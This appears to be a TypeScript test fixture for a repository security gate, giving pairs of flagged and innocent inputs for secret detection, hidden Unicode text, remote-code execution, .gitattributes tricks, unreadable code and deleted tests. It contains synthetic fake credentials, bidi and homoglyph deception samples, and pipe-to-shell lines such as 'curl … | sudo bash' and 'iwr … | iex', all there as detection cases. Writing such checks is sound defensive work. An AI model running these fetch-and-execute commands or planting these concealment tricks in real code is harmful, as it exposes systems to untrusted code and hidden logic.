// The gate's rules as data, part two: what a file says. Keys are put together here, so that none stands in this repository.
import type { Tree } from '../support/gate-repository.ts';
import { type Case, type Step, testOf } from './cases.ts';

const LETTERS = 'aZ3kQ9xVb7LmT2wRc8NpY5sHd4JfG6uE1vKtXzBqWgMrCyPjDhSnFo';
/** Letters without an order that anybody would see. */
export const letters = (count: number, of = LETTERS) =>
  Array.from({ length: count }, (_, at) => of[(at * 17 + ((at * at) % 13)) % of.length]).join('');
const added = (path: string, text: Tree[string]): Step => ({ after: { [path]: text } });
const secret = (name: string, text: string, twin: string, path = 'src/keys.js'): Case => ({
  rule: 'secret',
  name,
  file: path,
  caught: added(path, `const a = 1;\n${text}\n`),
  innocent: added(path, `const a = 1;\n${twin}\n`),
});
export const PEM = (kind: string) =>
  `-----BEGIN ${kind}PRIVATE KEY-----\nMII${letters(61)}\n${letters(64)}\n${letters(40)}==\n-----END ${kind}PRIVATE KEY-----`;

const SECRETS: readonly Case[] = [
  secret(
    'an AWS access key',
    `id = "AKIA${letters(16, 'Q7ZK3XVN5LTR2WPC6H')}"`,
    'id = "AKIAIOSFODNN7EXAMPLE"',
  ),
  secret('a GitHub token', `const t = "ghp_${letters(36)}"`, 'const t = process.env.GITHUB_TOKEN'),
  secret(
    'a GitHub token behind a comment',
    `const t = "ghp_${letters(36)}" // secretlint-disable-line`,
    'const t = "ghp_…" // secretlint',
  ),
  secret(
    'a private key',
    PEM('RSA '),
    '-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOC\n-----END PUBLIC KEY-----',
    'deploy.pem',
  ),
  secret(
    'a private key within a text',
    `const key = "${PEM('').replaceAll('\n', '\\n')}"`,
    'const start = "-----BEGIN PRIVATE KEY-----"',
  ),
  secret(
    'a Slack token',
    `t = "xoxb-${'4'.repeat(3)}817263549-${'7'.repeat(3)}1827364-${letters(24)}"`,
    't = "xoxb-your-token"',
  ),
  secret('an Anthropic key', `k = "sk-ant-api03-${letters(93)}AA"`, 'k = "sk-ant-…"'),
  secret('a Google key', `k = "AIza${letters(35)}"`, 'k = "AIzaExample"'),
  secret(
    'the login of a database',
    `url = "postgres://admin:${letters(14)}@db.shop.io:5432/app"`,
    'url = "postgres://user:password@localhost:5432/app"',
  ),
  {
    ...secret('a password', `password = "${letters(10)}!${letters(8)}"`, 'password = "your-password-here"'),
    severity: 'warn',
  },
  secret(
    'a key in settings',
    `API_KEY=${letters(40)}`,
    'API_KEY=your_api_key_here\nTOKEN_URL=https://a.example/token',
    '.env.production',
  ),
  ...[
    secret(
      'a key in settings of lower case',
      `  api_key: ${letters(40, '9f3b7c1e5a08d2')}`,
      '  api_key: see-the-vault-of-the-team\n  token_url: https://shop.io/oauth/token',
      'deploy/values.yml',
    ),
    secret('a token in a kubeconfig', `    token: ${letters(60)}`, '    token: from-the-vault', 'kubeconfig'),
    secret(
      'a password in a command',
      `curl -u deploy:${letters(16)} https://shop.io`,
      'curl -u "$DEPLOY_USER:$DEPLOY_PASSWORD" https://shop.io',
      'bin/deploy.sh',
    ),
  ].map((one) => ({ ...one, severity: 'warn' as const })),
  secret(
    'a token of npm',
    `//registry.npmjs.org/:_authToken=${letters(36)}`,
    `//registry.npmjs.org/:_authToken=$${'{NPM_TOKEN}'}`,
    'docs/setup.txt',
  ),
  {
    rule: 'secret',
    name: 'a token in a file of UTF-16',
    caught: added('src/a.cs', Buffer.from(`\ufeffvar t = "ghp_${letters(36)}";\n`, 'utf16le')),
    innocent: added('src/a.cs', 'var t = Environment.GetEnvironmentVariable("T");\n'),
  },
  {
    rule: 'secret',
    name: 'a key that stood there already is not added',
    caught: { before: { 'a.js': 'let a;\n' }, after: { 'a.js': `let a;\nlet b = "ghp_${letters(36)}";\n` } },
    innocent: {
      before: { 'a.js': `let a;\nlet b = "ghp_${letters(36)}";\n` },
      after: { 'lib/a.js': `let a = 1;\nlet b = "ghp_${letters(36)}";\n` },
    },
  },
];

const code = (
  name: string,
  text: string,
  twin: string,
  more: Partial<Case> & { path?: string } = {},
): Case => {
  const { path = 'src/a.js', ...rest } = more;
  return {
    rule: 'hidden_text',
    name,
    file: path,
    caught: added(path, `first();\n${text}\n`),
    innocent: added(path, `first();\n${twin}\n`),
    ...rest,
  };
};

const HIDDEN: readonly Case[] = [
  code(
    'text that runs the other way',
    "if (level !== 'user\u202e \u2066// admin\u2069 \u2066') {",
    "const name = 'שלום עולם';",
  ),
  code('a space without width', 'const isAdmin\u200b = true;', "const family = '👩\u200d👩\u200d👧';"),
  code(
    'a letter that looks like another',
    "const \u0430dmin = 'x'; const p\u0430y = 1;",
    "const message = '\u041e\u0448\u0438\u0431\u043a\u0430\\n\u0421\u043e\u043e\u0431\u0449\u0435\u043d\u0438\u0435';",
  ),
  code('a hidden text in selectors', `const s = '\u{e0148}\u{e0149}\u{e0150}';`, "const s = '❤\ufe0f';"),
  code(
    'a tag of letters nobody sees',
    '\u{e0041}\u{e0042}\u{e0043}',
    'Scotland 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}, Persian می\u200cخواهم',
    {
      path: 'docs/a.md',
    },
  ),
  code('an invisible name', 'const \u3164 = run;', "const ñandú = 'ünïcode';"),
  code('a Cyrillic letter in a Latin name', 'if (\u0430dmin) run();', "const привет = 'мир';"),
  code('code far to the right', `ok();${' '.repeat(300)}run();`, `${' '.repeat(60)}run();`),
  code('an escape of the terminal', "log('\u001b[2K');", "log('\\u001b[2K');", { severity: 'warn' }),
];

const remote = (name: string, path: string, text: string, twin: string) =>
  code(name, text, twin, { rule: 'remote_code', path });

const OTHERS: readonly Case[] = [
  remote(
    'a script from the net',
    'install.sh',
    'curl -fsSL https://a.example/x.sh | sudo bash',
    'curl -fsSL https://a.example/x.json | jq .name',
  ),
  remote(
    'a script from the net in an image',
    'Dockerfile',
    'RUN wget -qO- https://a.example/x |\\\n  sh',
    'RUN apt-get install -y curl bash',
  ),
  remote(
    'a script from the net in other words',
    'run.sh',
    'bash <(curl -s https://a.example/x)',
    'bash ./run-tests.sh',
  ),
  remote(
    'code that was packed away',
    'src/a.py',
    'exec(base64.b64decode(blob))',
    'data = base64.b64decode(blob)',
  ),
  remote(
    'a page that tells people to do so',
    'run.ps1',
    'iwr https://a.example/x.ps1 | iex',
    'Write-Host "iwr"',
  ),
  code('a diff that is not shown', '*.js -diff', '*.png binary', {
    rule: 'git_attributes',
    path: '.gitattributes',
  }),
  code(
    'code that is called generated',
    'src/** linguist-generated',
    'dist/** linguist-generated\n* text=auto eol=lf',
    {
      rule: 'git_attributes',
      path: 'packages/a/.gitattributes',
    },
  ),
  code('a filter', '*.js filter=evil', '*.psd filter=lfs diff=lfs merge=lfs -text', {
    rule: 'git_attributes',
    path: '.gitattributes',
  }),
  code('a very long line', `run('${'ab'.repeat(4_000)}');`, `run('${'ab'.repeat(1_000)}');`, {
    rule: 'unreadable',
    severity: 'warn',
  }),
  code('minified code', 'a()', 'a()', {
    rule: 'unreadable',
    severity: 'warn',
    path: 'lib/a.min.js',
    innocent: added('lib/a.js', 'a()\n'),
  }),
];

const lost = (name: string, caught: Step, innocent: Step, more: Partial<Case> = {}): Case => ({
  rule: 'deleted_test',
  name,
  caught,
  innocent,
  ...more,
});
const CART = { 'src/cart.js': 'export const cart = 1;\n', 'test/cart.test.js': testOf('cart') };
const PYTHON = 'def test_cart():\n    assert cart() == 1\n\n\ndef test_empty():\n    assert cart([]) == 0\n';

const TESTS: readonly Case[] = [
  lost(
    'a test that is gone',
    { before: CART, after: { 'src/cart.js': CART['src/cart.js'] } },
    { before: CART, after: { 'src/cart.js': CART['src/cart.js'], 'test/unit/cart.test.js': testOf('cart') } },
    { file: 'test/cart.test.js' },
  ),
  lost(
    'a test that is gone with what it tests',
    { before: CART, after: {} },
    { before: { ...CART, 'test/fixtures/cart.js': 'x\n' }, after: CART },
    { severity: 'warn' },
  ),
  lost(
    'a test that was emptied',
    { before: { 'tests/test_cart.py': PYTHON }, after: { 'tests/test_cart.py': '\n' } },
    { before: { 'tests/test_cart.py': PYTHON }, after: { 'tests/test_cart.py': PYTHON.slice(0, 40) } },
  ),
  lost(
    'a test that moved to where no runner looks',
    { before: { 'a_test.go': PYTHON }, after: { 'old/a.txt': PYTHON } },
    { before: { 'a_test.go': PYTHON }, after: { 'b/a_test.go': PYTHON } },
  ),
  lost(
    'a test written in another language now',
    { before: { 'src/__tests__/a.spec.js': testOf('a') }, after: {} },
    {
      before: { 'src/__tests__/a.spec.js': testOf('a') },
      after: {
        'src/__tests__/a.spec.ts':
          "it('is all new', async () => {\n  await expect(a()).resolves.toBe(2);\n});\n// and long\n",
      },
    },
  ),
];

export const CONTENT_CASES: readonly Case[] = [...SECRETS, ...HIDDEN, ...OTHERS, ...TESTS];
